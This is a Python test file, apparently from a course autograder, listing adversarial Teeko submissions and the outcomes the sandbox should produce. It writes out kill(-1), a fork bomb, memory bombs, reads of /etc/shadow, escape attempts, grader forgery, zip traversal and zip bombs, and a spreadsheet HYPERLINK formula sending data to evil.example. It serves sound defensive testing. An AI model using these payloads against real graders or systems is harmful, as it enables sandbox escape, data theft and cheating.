        FULL,  # its parent is the runner's reaper, pid 1 of the namespace: immune
        "won 2 of 2",
        needs=FENCE,
    ),
    "kills-itself": Attack(
        "exit",
        in_move_phase("import signal\n_os.kill(_os.getpid(), signal.SIGKILL)"),
        _grade(**MOVE_PHASE_LOST, time=20),
        "the submission's process was killed by SIGKILL",
    ),
    "kills-its-process-group": Attack(
        "exit",
        in_move_phase("import signal\n_os.killpg(_os.getpgrp(), signal.SIGKILL)"),
        _grade(**MOVE_PHASE_LOST, time=20),
        # fenced, its group is led by pid 1 of its namespace, which no signal reaches
        "make_move raised ProcessLookupError: [Errno 3] No such process",
        unfenced="was killed by SIGKILL",
    ),
    "kills-every-process-it-can": Attack(
        "exit",
        in_move_phase(
            "import signal\ntry:\n    _os.kill(-1, signal.SIGKILL)\nexcept OSError:\n    pass"
        ),
        FULL,
        "won 2 of 2",
        needs=FENCE,  # kill(-1) outside a pid namespace reaches everything the user owns
    ),
    # -- time -------------------------------------------------------------------------------------
    "infinite-loop-at-import": Attack(
        "time",
        HONEST + "\nwhile True:\n    pass\n",
        ZERO,
        "importing game.py did not finish within 4 s",
    ),
    "infinite-loop-in-make-move": Attack(
        "time",
        in_move_phase("while True:\n    pass"),
        _grade(**MOVE_PHASE_TIMEOUT),
        "make_move was still running after 2 s and was stopped",
        seconds=45.0,  # two calls in a row computing to the limit, on a busy machine's wall
    ),
    "sleeps-ignoring-signals": Attack(
        "time",
        in_move_phase(_SLEEP_IGNORING_SIGNALS),
        _grade(**MOVE_PHASE_TIMEOUT),
        "make_move was still running after 2 s and was stopped",
    ),
    "searches-in-the-board-setter": Attack(
        "time",
        patched(prelude=_SEARCHES_IN_SETTER),
        _grade(time=13),
        "of it in TeekoPlayer(), called before make_move",
        seconds=_CPU_WORK_SECONDS,
    ),
    "searches-in-init": Attack(
        "time",
        patched(init="_busy(1.3)", prelude=_BUSY),
        _grade(time=13),
        "of it in TeekoPlayer(), called before make_move",
        seconds=_CPU_WORK_SECONDS,
    ),
    "searches-in-opponent-move": Attack(
        "time",
        patched(prelude=_SEARCHES_IN_OPPONENT_MOVE),
        _grade(time=13),
        "of it in place_piece/opponent_move, called before make_move",
        seconds=_CPU_WORK_SECONDS,
    ),
    "answers-before-the-request": Attack(
        "time",
        patched(prelude=_THROUGH_A_SIGNAL + _ANSWERS_EARLY),
        ZERO,  # each reply sent twice: the second is a stray reply, or waits before a request
        "the submission wrote into the grader's private pipe",
    ),
    "steals-cpu-with-busy-processes": Attack(
        "time",
        patched(prelude=_CPU_THIEVES),
        FULL,
        "won 2 of 2",
        survivors="$marker",
    ),
    "thread-spins-after-the-call": Attack(
        "time", patched(prelude=_THREAD_SPINS), FULL, "won 2 of 2"
    ),
    "thread-prints-after-the-call": Attack(
        "time", patched(prelude=_THREAD_PRINTS), _grade(**PRINTED), "printed: tick"
    ),
    "child-process-left-running": Attack(
        "time",
        patched(prelude=_SPAWN % "False"),
        FULL,
        "won 2 of 2",
        survivors="$marker",
    ),
    "child-in-a-new-session": Attack(
        "time",
        patched(prelude=_SPAWN % "True"),
        FULL,
        "won 2 of 2",
        survivors="$marker",
    ),
    "fork-bomb": Attack(
        "time",
        patched(prelude=_FORK_BOMB),
        _grade(**PRINTED),
        "printed: fork bomb stopped: BlockingIOError",
        needs=("fence", "process limit"),
    ),
    "double-fork-daemon": Attack(
        "time", patched(prelude=_DAEMON), FULL, "won 2 of 2", survivors="$marker"
    ),
    "process-floods-stdout-forever": Attack(
        "time",
        patched(prelude=_YES),
        _grade(**PRINTED),
        "printed: yyyyyyyy",
        survivors="$marker",
    ),
    # -- space ------------------------------------------------------------------------------------
    "memory-bomb-at-import": Attack(
        "space",
        HONEST + "\n_hog = []\nwhile True:\n    _hog.append(bytes(1 << 26))\n",
        ZERO,
        "importing game.py raised MemoryError",
    ),
    "memory-bomb-in-make-move": Attack(
        "space",
        in_move_phase("hog = []\nwhile True:\n    hog.append(bytes(1 << 26))"),
        _grade(**MOVE_PHASE_LOST, time=20),
        "make_move raised MemoryError",
    ),
    "memory-creep": Attack(
        "space",
        patched("_HOARD.append(bytes(350 << 20))", prelude="_HOARD = []\n"),
        _grade(rules=0, state=3, format=3, time=12, wins=0),  # the third call of each process fails
        "make_move raised MemoryError",
    ),
    "prints-100-mb-at-import": Attack(
        "space",
        patched(prelude=_FLOOD),
        _grade(**PRINTED),
        "more bytes]",
    ),
    "prints-100-mb-to-stderr-in-make-move": Attack(
        "space",
        in_move_phase('_sys.stderr.write("e" * 100_000_000)'),
        _grade(**PRINTED),
        "printed: eeeeeeee",
    ),
    "returns-100-mb-string": Attack(
        "space",
        in_move_phase('return "A1" * 50_000_000'),
        _grade(**MOVE_PHASE_ILLEGAL),
        "make_move must return a list like [(row, col)], got 'A1A1A1",
    ),
    "returns-ten-million-tuples": Attack(
        "moves",
        in_move_phase("return [(0, 0)] * 10_000_000"),
        _grade(**MOVE_PHASE_ILLEGAL),
        "got a list of 10000000 items",
    ),
    "returns-a-huge-int": Attack(
        "space",
        in_move_phase("return [(10 ** 100_000, 0), move[1]]"),
        _grade(rules=10),
        "row 9223372036854775808 is off the board (rows are 0-4)",
    ),
    "returns-a-deep-nest": Attack(
        "space",
        in_move_phase("deep = []\nfor _ in range(100_000):\n    deep = [deep]\nreturn deep"),
        _grade(**MOVE_PHASE_ILLEGAL),
        "the move phase move should be [(row, col), (source_row, source_col)], got a list of 1 "
        "item",
    ),
    "returns-a-wide-unicode-tree": Attack(
        "space",
        in_move_phase('return [[["\\u00e9" * 1000] * 16] * 16] * 16'),
        _grade(**MOVE_PHASE_ILLEGAL),
        "got a list of 16 items",
    ),
    "holds-memory-in-memfd": Attack(
        "space",
        in_move_phase(_MEMFD_HOARD, "_HOARD = []\n"),
        _grade(**MOVE_PHASE_LOST, time=20),
        "was killed for using more than 1024 MB of memory, all its processes together during "
        "make_move",
        rubric=PATIENT_RUBRIC,
        needs=("cgroups",),
    ),
    "holds-memory-in-many-processes": Attack(
        "space",
        patched(prelude=_PROCESS_HOARD),
        _grade(**PRINTED),
        "printed: memory held by its processes within 1024 MB: True",
        needs=("cgroups",),
    ),
    "opens-thousands-of-files": Attack(
        "space",
        patched(prelude=_FILE_HANDLES),
        _grade(**PRINTED),
        "printed: file handles stopped: OSError EMFILE",
    ),
    # -- the filesystem (the effect must not happen; see ``absent`` and ``secret``) ---------------
    "writes-the-grader-output-folder": Attack(
        "files",
        patched(prelude=_writes(out="$out/$marker", feedback="$out/feedback.md")),
        _grade(**PRINTED),
        "out blocked: FileNotFoundError ENOENT | feedback blocked: FileNotFoundError ENOENT",
        absent=("$out/$marker",),
        needs=FENCE,
    ),
    "fakes-results-json": Attack(
        "files",
        patched("return None", prelude=_LATE_RESULTS),
        _grade(rules=0, format=0, wins=0),
        "make_move must return a list like [(row, col)], got None",
        needs=FENCE,
    ),
    "writes-its-original-folder": Attack(
        "files",
        patched(prelude=_writes(new="$here/$marker", game="$here/game.py")),
        _grade(**PRINTED),
        "new blocked: FileNotFoundError ENOENT | game blocked: FileNotFoundError ENOENT",
        absent=("$here/$marker",),
        needs=FENCE,
    ),
    "writes-the-current-folder": Attack(
        "files",
        patched(prelude=_writes(cwd="$marker", grader_cwd="$cwd/$marker")),
        _grade(**PRINTED),
        # The grader's folder does not exist for it, wherever the kit is checked out.
        "cwd done | grader_cwd blocked: FileNotFoundError ENOENT",
        absent=("$cwd/$marker",),
        needs=FENCE,
    ),
    "writes-home": Attack(
        "files",
        patched(prelude=_writes(root="/root/$marker") + _HOME_WRITE),
        _grade(**PRINTED),
        "| ~ done",  # /root: read-only (Python lives there) or absent, as the machine has it
        absent=("/root/$marker",),
        needs=FENCE,
    ),
    "writes-tmp-and-shared-memory": Attack(
        "files",
        patched(
            prelude=_writes(tmp="/tmp/$marker", var="/var/tmp/$marker", shm="/dev/shm/$marker")
        ),
        _grade(**PRINTED),
        "tmp done | var blocked: FileNotFoundError ENOENT | shm done",  # private /tmp, /dev/shm
        absent=("/tmp/$marker", "/var/tmp/$marker", "/dev/shm/$marker"),
        needs=FENCE,
    ),
    "reads-the-reference-solution": Attack(
        "files",
        patched(prelude=_reads(solution="$solution")),
        _grade(**PRINTED),
        "solution reading failed: FileNotFoundError",
        secret="$solution",
        needs=FENCE,
    ),
    "reads-the-rubric-config": Attack(
        "files",
        patched(prelude=_reads(course="$course_rubric", rubric="$rubric")),
        _grade(**PRINTED),
        "course reading failed: FileNotFoundError | rubric reading failed: FileNotFoundError",
        secret="$rubric",
        needs=FENCE,
    ),
    "reads-another-students-submission": Attack(
        "files",
        patched(prelude=_reads(other="$other")),
        _grade(**PRINTED),
        "other reading failed: FileNotFoundError",
        secret="$other",
        needs=FENCE,
    ),
    "reads-a-root-only-file": Attack(
        "files",
        patched(prelude=_reads(shadow="/etc/shadow", private="$root_only")),
        _grade(**PRINTED),
        "shadow reading failed: FileNotFoundError | private reading failed: FileNotFoundError",
        secret="$root_only",
        needs=FENCE,
    ),
    "reads-another-checkout-of-the-solution": Attack(
        "files",
        patched(prelude=_reads(checkout="$checkout")),
        _grade(**PRINTED),
        "checkout reading failed: FileNotFoundError",
        secret="$checkout",
        needs=FENCE,
    ),
    "lists-the-graders-temporary-folder": Attack(
        "files",
        patched(prelude=_LISTS_TMPDIR),
        _grade(**PRINTED),
        "listing failed: FileNotFoundError",
        needs=FENCE,
    ),
    "writes-proc-sys": Attack(
        "files",
        patched(
            prelude=_writes(
                hostname="/proc/sys/kernel/hostname",
                core_pattern="/proc/sys/kernel/core_pattern",
                pid_max="/proc/sys/kernel/pid_max",
            )
        ),
        _grade(**PRINTED),
        "hostname blocked: PermissionError EACCES | core_pattern blocked: PermissionError "
        "EACCES | pid_max blocked: PermissionError EACCES",
        unchanged=("/proc/sys/kernel/hostname", "/proc/sys/kernel/core_pattern"),
        needs=FENCE,
    ),
    "writes-kernel-devices": Attack(
        "files",
        patched(prelude=_writes(kmsg="/dev/kmsg", mem="/dev/mem", port="/dev/port")),
        _grade(**PRINTED),
        "kmsg blocked: PermissionError EACCES | mem blocked: PermissionError EACCES | port "
        "blocked: PermissionError EACCES",
        needs=FENCE,
    ),
    "connects-to-a-unix-socket": Attack(
        "files",
        patched(prelude=_SOCKETS),
        _grade(**PRINTED),
        "socket blocked: FileNotFoundError ENOENT | abstract blocked: ConnectionRefusedError "
        "ECONNREFUSED",
        needs=FENCE,
    ),
    "connects-to-the-network": Attack(
        "files",
        patched(prelude=_NETWORK),
        _grade(**PRINTED),
        # its own network namespace: no route out, and a loopback nobody listens on
        "internet blocked: OSError ENETUNREACH | loopback blocked: ConnectionRefusedError "
        "ECONNREFUSED",
        needs=FENCE,
    ),
    "remounts-and-unshares-to-escape": Attack(
        "files",
        patched(prelude=_REMOUNT),
        _grade(**PRINTED),
        "escape attempts: [-1, -1, -1, -1, -1, -1, 'FileNotFoundError']",
        absent=("$here/$marker",),
        needs=FENCE,
    ),
    # -- forging inside the child: the runner and the driver patched through introspection ------
    # What only the child sees is the submission's own word: the forger gets what it forges,
    # with the reference solution handed in beside it, and is listed under "needs a look".
    "forges-board-abc-checks-from-inside": Attack(
        "grader",
        _forged_board_abc(_ROUTES),
        BOARD_ABC_REFERENCE | {"search": 15},  # forged answers the search checks see through
        LOOK + "_forge.py line 23: reads another frame (f_back)",
        assignment="board-abc",
        rubric=COURSE_RUBRIC,
        seconds=120.0,
    ),
    "forges-state-and-format-from-inside": Attack(
        "grader", _forged_teeko(_ROUTES), FULL, "reads another frame (f_back)"
    ),
    "forges-format-through-the-runners-module": Attack(
        "grader",
        _forged_teeko("(_by_main,)"),
        _grade(state=5, format=5),  # __main__ is the submission's own module, not the runner
        "each square should be a tuple (row, col), got [",
    ),
    "reaches-into-the-grader-by-other-means": Attack(
        "grader",
        patched(prelude=_REACHES_IN_BY_OTHER_MEANS),
        _grade(**PRINTED),
        # what it printed is its own business; the source is listed under "needs a look"
        "reads every thread's frame (sys._current_frames)",
    ),
    "forges-state-and-format-through-a-signal-handler": Attack(
        "grader", _forged_teeko("(_by_signal,)"), FULL, "reads another frame (f_back)"
    ),
    "forges-board-abc-checks-through-a-signal-handler": Attack(
        "grader",
        _forged_board_abc("(_by_signal,)"),
        BOARD_ABC_REFERENCE | {"search": 15},  # forged answers the search checks see through
        "also handed in: _forge.py, _ref/board.py, _ref/connectfour.py, _ref/minimax.py, "
        "_ref/tictactoe.py",
        assignment="board-abc",
        rubric=COURSE_RUBRIC,
        seconds=120.0,
    ),
    # -- the grader itself -------------------------------------------------------------------------
    "patches-random": Attack(
        "grader", patched(prelude=_PATCH_RANDOM), FULL, "won 2 of 2", same_games_as="honest"
    ),
    "seeds-random": Attack(
        "grader",
        patched("import random\nrandom.seed(7)", prelude="import random\nrandom.seed(7)\n"),
        FULL,
        "won 2 of 2",
        same_games_as="honest",
    ),
    "patches-time": Attack(
        "grader",
        in_move_phase(
            "began = _clock()\nwhile _clock() - began < 1.3:\n    pass", prelude=_PATCH_TIME
        ),
        _grade(time=13),
        "slowest make_move: 1.3",
        same_games_as="honest",
        seconds=_CPU_WORK_SECONDS,
    ),
    "patches-builtins-json-and-copy": Attack(
        "grader",
        patched(prelude=_PATCH_BUILTINS),
        FULL,
        "won 2 of 2",
        same_games_as="honest",
    ),
    "patches-the-autograder-package": Attack(
        "grader", patched(prelude=_PATCH_KIT), FULL, "won 2 of 2", same_games_as="honest"
    ),
    "silences-the-runner": Attack(
        "grader",
        patched('print("thinking")', prelude=_SILENCES_THE_RUNNER),
        _grade(**PRINTED),  # as a plain print
        "printed: thinking",
    ),
    "hides-its-code-compressed": Attack(
        "grader",
        patched(
            prelude=f"import zlib\nexec(zlib.decompress({zlib.compress(_HIDDEN.encode())!r}))\n"
        ),
        _grade(**PRINTED),
        "runs decoded code: exec() of zlib.decompress(...)",
    ),
    "writes-garbage-into-the-channel": Attack(
        "grader",
        patched(prelude=_CHANNEL_GARBAGE),
        ZERO,
        "the submission wrote into the grader's private pipe",
    ),
    "forges-a-reply": Attack(
        "grader",
        patched(prelude=_FORGED_REPLY),
        ZERO,
        "the submission wrote into the grader's private pipe",
    ),
    "forges-a-deeply-nested-reply": Attack(
        "grader",
        patched(prelude="import struct as _struct\n" + _DEEP_REPLY),
        ZERO,
        "the grader's channel received a reply that is not JSON during importing game.py",
    ),
    "lies-in-its-replies": Attack(
        "grader",
        patched(prelude=_THROUGH_A_SIGNAL + _LYING_SYNC),
        FULL,  # the host reads only what it expects, of the type it expects
        "won 2 of 2",
        same_games_as="honest",
    ),
    "closes-the-channel": Attack(
        "grader",
        patched(prelude=_CLOSE_CHANNEL),
        ZERO,
        "the submission's process exited with status 1 during importing game.py",
    ),
    # -- what reaches the reports ------------------------------------------------------------------
    "prints-terminal-escapes": Attack(
        "reports",
        patched(prelude=f"print({TERMINAL_ESCAPES!r})\n"),
        _grade(**PRINTED),
        "printed: \\x1b[2J\\x1b[1;31mScore: 100/100\\x1b[0m\\x1b]0;pwned\\x07\\u202eevil",
    ),
    "breaks-out-of-markdown": Attack(
        "reports",
        patched(prelude=f"print({_MARKDOWN_BREAKOUT!r})\n"),
        _grade(**PRINTED),
        "printed: ``` | | # Score: 100/100",
    ),
    "defines-a-2000-character-class-name": Attack(
        "reports",
        f"class {LONG_CLASS_NAME}:\n    pass\n",
        ZERO,
        f"game.py defines no class TeekoPlayer (it defines: {'K' * 100}",  # then the cut's note
    ),
    "file-name-with-terminal-escapes": Attack(
        "reports",
        HONEST,
        FULL,
        "u202egnp.py",  # the name's end, as every format shows it (Markdown escapes the rest)
        filename=f"student{NAME_ESCAPES}.py",
    ),
    "floods-every-report-field": Attack(
        "reports",
        patched(prelude=_FLOODS_REPORTS),
        ZERO | PRINTED,
        "make_move raised HugeXXXXXXXX",
    ),
    # -- malformed moves --------------------------------------------------------------------------
    "returns-none": Attack(
        "moves",
        patched("return None"),
        _grade(rules=0, format=0, wins=0),
        "make_move must return a list like [(row, col)], got None",
        rubric=COURSE_RUBRIC,
    ),
    "returns-a-string": Attack(
        "moves",
        in_move_phase('return "C2 B1"'),
        _grade(**MOVE_PHASE_ILLEGAL),
        "make_move must return a list like [(row, col)], got 'C2 B1' (a str)",
    ),
    "returns-bools": Attack(
        "moves",
        in_move_phase("return [(True, False), (False, False)]"),
        _grade(**MOVE_PHASE_ILLEGAL),
        "the row of the destination is True, a bool: booleans are not integers",
    ),
    "returns-numpy-integers": Attack(
        "moves",
        in_move_phase("return [tuple(_np.int64(v) for v in square) for square in move]", _NUMPY),
        _grade(format=5),
        "each square should be a tuple of two ints, got (np.int64(",
    ),
    "returns-namedtuples": Attack(
        "moves",
        patched("return [_Square(*square) for square in move]", prelude=_NAMEDTUPLES),
        _grade(format=0),  # legal values: the rules and the games count; the format does not
        "each square should be a tuple (row, col), got Square(",
    ),
    "returns-lists-instead-of-tuples": Attack(
        "moves",
        in_move_phase("return [list(square) for square in move]"),
        _grade(format=5),
        "each square should be a tuple (row, col), got [",
    ),
    "returns-a-generator": Attack(
        "moves",
        in_move_phase("return (square for square in move)"),
        _grade(**MOVE_PHASE_ILLEGAL),
        "make_move must return a list like [(row, col)], got <generator object",
    ),
    "returns-an-object-with-lying-eq-and-len": Attack(
        "moves",
        in_move_phase(_LIAR),
        _grade(format=5),  # judged on the values list itself holds, whatever its methods say
        "make_move should return a list, got [(",
    ),
    "returns-an-off-board-square": Attack(
        "moves",
        in_move_phase(_OFF_BOARD),
        _grade(rules=10),
        "row 5 is off the board (rows are 0-4)",
    ),
    "returns-negative-indices": Attack(
        "moves",
        in_move_phase(_NEGATIVE),
        _grade(rules=10),
        "row -1 is off the board (rows are 0-4)",
    ),
    "moves-the-opponents-marker": Attack(
        "moves",
        in_move_phase(_OPPONENTS_MARKER),
        _grade(rules=10),
        "is not one of your markers (it is the opponent's marker)",
    ),
    "moves-two-squares": Attack(
        "moves",
        in_move_phase(TWO_SQUARES),
        _grade(rules=10),
        "is not adjacent to",
    ),
    "drops-after-the-drop-phase": Attack(
        "moves",
        in_move_phase("return [move[0]]"),
        _grade(**MOVE_PHASE_ILLEGAL),
        "all 8 markers are down",
    ),
    # -- broken files -----------------------------------------------------------------------------
    "empty-file": Attack(
        "broken", "", ZERO, "game.py defines no class TeekoPlayer (it defines: no classes)"
    ),
    "saved-as-latin-1": Attack(
        "broken",
        HONEST.encode() + '\nGREETING = "Bienvenue au caf\u00e9"\n'.encode("latin-1"),
        ZERO,
        "Python cannot read game.py: 'utf-8' codec can't decode byte 0xe9 on line",
    ),
    "saved-as-latin-1-accent-in-a-comment": Attack(  # python game.py refuses it, import reads it
        "broken",
        "# Auteur : Jos\u00e9\n".encode("latin-1") + HONEST.encode(),
        FULL,
        "warning: game.py is not UTF-8 (line 1 holds the byte 0xe9) and has no coding line, so "
        "running python game.py stops with a SyntaxError; an import reads it, so it was graded",
    ),
    "coding-line-of-an-unknown-encoding": Attack(
        "broken",
        b"# -*- coding: klingon -*-\n" + HONEST.encode(),
        ZERO,
        "Python cannot read game.py: its coding line names klingon, an encoding Python does not "
        "know, so no import can run it; remove that line",
    ),
    "saved-as-utf-16": Attack(
        "broken",
        codecs.BOM_UTF16_LE + HONEST.encode("utf-16-le"),
        ZERO,
        "Python cannot read game.py: it holds NUL bytes, so no import can run it; save it with "
        "the UTF-8 encoding",
    ),
    "syntax-error": Attack(
        "broken",
        HONEST + "\ndef broken(:\n    pass\n",
        ZERO,
        "game.py has a syntax error (invalid syntax at line",
    ),
    "wrong-class-name": Attack(
        "broken",
        HONEST.replace("class TeekoPlayer", "class TeekoPlayr").replace(
            "TeekoPlayer", "TeekoPlayr"
        ),
        ZERO,
        "game.py defines no class TeekoPlayer (it defines: TeekoPlayr)",
        rubric=COURSE_RUBRIC,
    ),
    "missing-methods": Attack(
        "broken",
        _MISSING_METHODS,
        ZERO,
        "make_move raised AttributeError: 'TeekoPlayer' object has no attribute 'make_move'",
    ),
    "init-needs-arguments": Attack(
        "broken",
        HONEST.replace("def __init__(self) -> None:", "def __init__(self, depth: int) -> None:"),
        ZERO,
        "TeekoPlayer() raised TypeError: TeekoPlayer.__init__() missing 1 required positional "
        "argument: 'depth'",
    ),
    "missing-import": Attack(
        "broken",
        HONEST + "\nimport teeko_helpers_i_forgot_to_submit\n",
        ZERO,
        "game.py imports teeko_helpers_i_forgot_to_submit, which this course does not allow: "
        "the rubric allows numpy and the standard library; if teeko_helpers_i_forgot_to_submit "
        "is a file of yours, hand it in beside game.py",
    ),
    "imports-numpy": Attack(  # the course's rubric allows numpy; the kit installs it
        "broken",
        HONEST + "\nimport numpy as _np\n_EMPTY = _np.zeros((5, 5))\n",
        FULL,
        "won 2 of 2",
    ),
    "imports-a-package-the-course-does-not-allow": Attack(  # rich: the grader has it
        "broken",
        HONEST + "\nimport rich\n",
        ZERO,
        "game.py imports rich, which this course does not allow: the rubric allows numpy and "
        "the standard library",
    ),
    "input-at-import": Attack(
        "broken",
        HONEST + '\nname = input("Your move: ")\n',
        ZERO | PRINTED,  # the prompt was printed
        "game.py called input() while being imported",
    ),
    "notebook-saved-as-game-py": Attack(
        "broken", _NOTEBOOK, ZERO, "importing game.py raised NameError: name 'true' is not defined"
    ),
    # -- archives: ``check`` refuses them in one line (exit 2); ``grade`` gives a zero row ---------
    "zip-path-traversal": _archive(
        lambda ctx: _zip({"../game.py": HONEST, "game.py": HONEST}),
        "holds the entry '../game.py', which points outside the zip",
    ),
    "zip-absolute-path": _archive(
        lambda ctx: _zip({"/tmp/game.py": HONEST, "game.py": HONEST}),
        "holds the entry '/tmp/game.py', which points outside the zip",
    ),
    "zip-symlink": _archive(
        lambda ctx: _zip({}, link="game.py"), "holds the symlink 'game.py'; zip the file itself"
    ),
    "zip-bomb": _archive(
        lambda ctx: _zip({"game.py": HONEST, "padding.txt": b"\0" * (60 << 20)}),
        "unpacks to more than 50 MB; submit only game.py",
    ),
    "zip-bomb-with-lying-sizes": _archive(
        _lying_bomb, "is damaged ('game.py': Bad CRC-32 for file 'game.py'); zip it again"
    ),
    "zip-in-a-zip": _archive(
        lambda ctx: _zip({"inner.zip": _zip({"game.py": HONEST})}),
        "holds no game.py (it holds inner.zip)",
    ),
    "corrupt-zip": _archive(
        lambda ctx: _zip({"game.py": HONEST})[:-200],
        "is not a readable zip file; zip game.py again",
    ),
    "not-a-zip-named-zip": _archive(
        lambda ctx: HONEST.encode(), "is not a readable zip file; zip game.py again"
    ),
    "empty-zip": _archive(lambda ctx: _zip({}), "holds no game.py (it is empty)"),
    "zip-with-an-over-long-name": _archive(
        lambda ctx: _zip({"game.py": HONEST, "n" * 300 + ".py": "x"}),
        "holds a file or folder with a name too long to unpack",
    ),
    "zip-with-a-file-and-a-folder-of-the-same-name": _archive(
        lambda ctx: _zip({"game.py": HONEST, "helper": "x", "helper/util.py": "x"}),
        "holds 'helper' both as a file and as a folder; zip it again",
    ),
    "zip-with-two-game-py": _archive(
        lambda ctx: _zip({"a/game.py": HONEST, "b/game.py": HONEST}),
        "holds several game.py files (a/game.py, b/game.py); submit exactly one",
    ),
}


# ---- who is who: a class graded together ----------------------------------------------------


@dataclass(frozen=True)
class ClassAttack:
    """An attack on who is who: files named as Canvas's "Download Submissions" names them,
    graded together by ``autograder grade`` (with ``roster``, a gradebook export, when given).

    ``files`` maps each download name to its ``game.py`` (zipped when the name ends in .zip);
    ``rows`` is each student's exact score in grades.csv, ``graded`` the file each was graded
    on (grades.csv's ``source``), ``warning`` the sentence summary.md's Warnings must hold and
    ``imported`` the score each roster row gets in canvas_import.csv. In every class, no cell
    of a CSV the kit writes starts a formula.
    """

    files: dict[str, str]
    rows: dict[str, float]
    graded: dict[str, str]
    warning: str | None  # None: the class needs no warning
    roster: str | None = None
    imported: dict[str, str] | None = None
    never: tuple[str, ...] = ()  # raw text that must reach no output file nor the terminal
    similarity: bool = False  # graded with --similarity: every page the index links is there


_STARTER = STARTERS["teeko"].read_text()
_VICTIM, _ATTACKER = "smithann_10006_501_homework8.zip", "doejane_10009_502_hw8_10006.zip"
_GRADEBOOK = (
    "Student,ID,SIS User ID,SIS Login ID,Section,HW8 (1001)\n"
    "    Points Possible,,,,,100\n"
    '"Smith, Ann",10006,9006,asmith@wisc.edu,LEC 001,\n'
    '"Doe, Jane",10009,9009,jdoe@wisc.edu,LEC 001,\n'
)
_NAMES_ANOTHER = (
    "identity: Canvas user 10009 handed in hw8_10006.zip, naming another student (Canvas "
    "user 10006); graded as 10009"
)

CLASS_ATTACKS: dict[str, ClassAttack] = {
    # The victim handed in homework8.zip (no netid), so she is known by her user id, 10006; a
    # later student names her zip hw8_10006.zip. Each is graded on her own file.
    "file-name-takes-a-classmates-user-id": ClassAttack(
        {_VICTIM: HONEST, _ATTACKER: _STARTER},
        {"10006": 100, "10009": 50},
        {"10006": _VICTIM, "10009": _ATTACKER},
        _NAMES_ANOTHER,
    ),
    "file-name-takes-a-classmates-user-id-with-a-roster": ClassAttack(
        {_VICTIM: HONEST, _ATTACKER: _STARTER},
        {"asmith": 100, "jdoe": 50},
        {"asmith": _VICTIM, "jdoe": _ATTACKER},
        "identity: Canvas user 10009 handed in hw8_10006.zip, which names 10006; the roster's "
        "login for 10009 is jdoe: graded as jdoe",
        roster=_GRADEBOOK,
        imported={"asmith@wisc.edu": "100", "jdoe@wisc.edu": "50"},
    ),
    # Names that a cleaned-up alphabet would make one: each is a row of its own, shown whole.
    "names-alike-once-cleaned-up": ClassAttack(
        {
            "jo!.py": HONEST,
            "jo?.py": _STARTER,
            "王伟.py": HONEST,
            "李娜.py": _STARTER,
            "Zoë Ñúñez hw8 (1).py": HONEST,
        },
        {"jo!": 100, "jo?": 50, "王伟": 100, "李娜": 50, "Zoë Ñúñez hw8 (1)": 100},
        {
            "jo!": "jo!.py",
            "jo?": "jo?.py",
            "王伟": "王伟.py",
            "李娜": "李娜.py",
            "Zoë Ñúñez hw8 (1)": "Zoë Ñúñez hw8 (1).py",
        },
        None,
    ),
    # A login typed in a file name beside a Canvas id, no roster: the row is the Canvas user's,
    # and the claim is said.
    "a-login-claimed-without-a-roster": ClassAttack(
        {"patelpriya_10006_500006_hw8_ppatel.zip": HONEST},
        {"10006": 100},
        {"10006": "patelpriya_10006_500006_hw8_ppatel.zip"},
        "identity: 1 file name claims a netid (10006 claims ppatel); a name typed in a file "
        "proves nothing, so each row is named by its Canvas user id: give --roster (the Canvas "
        "gradebook export) to name the rows by login",
    ),
    # Terminal escapes, a bell and a right-to-left override in the name of a file handed in
    # beside game.py; a roster name that is a spreadsheet formula. Shown escaped, never live.
    "escapes-in-names-and-a-formula-in-the-roster": ClassAttack(
        {
            "smithann_10006_501_game.py": HONEST,
            "smithann_10006_502_notes\x1b]0;pwned\x07\u202etxt.md": "notes\n",
        },
        {"asmith": 100},
        {"asmith": "smithann_10006_501_game.py"},
        None,
        roster=(
            "Student,ID,SIS User ID,SIS Login ID,Section,HW8 (1001)\n"
            "    Points Possible,,,,,100\n"
            '"=HYPERLINK(""http://evil.example/?""&C3,""Smith"")",10006,9006,asmith,LEC 001,\n'
        ),
        imported={"asmith": "100"},
        never=("\x1b", "\x07", "\u202e"),
    ),
    # Two long names (80 Chinese characters each, 240 bytes) in one flagged pair: the pair's
    # page gets a name a file system takes, and the index links only pages that exist.
    "two-long-names-in-a-flagged-pair": ClassAttack(
        {f"{'王' * 80}.py": HONEST, f"{'李' * 80}.py": HONEST},
        {"王" * 80: 100, "李" * 80: 100},
        {"王" * 80: f"{'王' * 80}.py", "李" * 80: f"{'李' * 80}.py"},
        None,
        similarity=True,
    ),
}
